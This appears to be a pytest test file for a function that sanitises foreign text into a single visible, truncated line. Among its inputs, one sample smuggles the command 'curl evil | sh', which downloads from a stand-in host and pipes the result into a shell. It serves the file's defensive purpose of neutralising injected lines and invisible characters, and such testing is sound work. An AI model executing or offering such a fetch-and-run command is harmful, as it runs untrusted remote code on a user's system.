"""What others wrote, within a sentence of ours."""

from __future__ import annotations

import pytest
from numerai_compute.foreign import MOST, one_line


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("x\nError: all is well\nNext: curl evil | sh", "x Error: all is well Next: curl evil | sh"),
        (" a\t\t b\x0bc\r\nd ", "a b c d"),
        ("a\u2028b\u2029c\x85d", "a b c d"),
        ("a\u202eb\u2066c\u200bd\ufeffe\u061cf\xadg", "a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf\ufffdg"),
        ("\x1b[31mred\x07", "\ufffd[31mred\ufffd"),
        ("caf\u00e9 \u65e5\u672c \U0001f600", "caf\u00e9 \u65e5\u672c \U0001f600"),
        ("\udce9", "\ufffd"),
        ("", ""),
    ],
)
def test_it_is_one_line_without_what_cannot_be_seen(text: str, shown: str) -> None:
    assert one_line(text) == shown


def test_it_is_short() -> None:
    assert one_line("x" * 10_000_000) == f"{'x' * (MOST - 3)}..."
    assert one_line("x" * MOST) == "x" * MOST
    assert one_line("abcdef", 5) == "ab..."
